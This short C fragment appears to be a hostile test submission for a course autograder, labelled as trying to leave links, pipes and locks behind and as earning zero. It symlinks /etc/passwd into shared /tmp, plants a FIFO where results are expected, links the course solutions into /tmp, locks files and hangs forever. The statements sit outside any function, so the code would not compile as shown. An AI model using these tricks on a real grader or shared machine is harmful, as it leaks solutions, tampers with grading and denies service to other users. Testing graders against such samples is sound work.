/* tries: to leave links, pipes and locks for the next one who comes by
 * earns: 0
 */
#include <fcntl.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <unistd.h>
/* ---- exercise 1.1 ---- */
if (symlink("/etc/passwd", "/tmp/class/right-out") == 0)
    mkfifo("/tmp/results.json", 0666);
if (link("COURSE_FOLDER/solutions/01-perceptron/perceptron.c", "/tmp/mine"))
    symlink("COURSE_FOLDER/solutions", "/tmp/solutions");
flock(open("COURSE_FOLDER/build/hostile/plan", O_RDONLY), LOCK_EX);
flock(open("/tmp", O_RDONLY), LOCK_EX);
for (;;)
    pause();
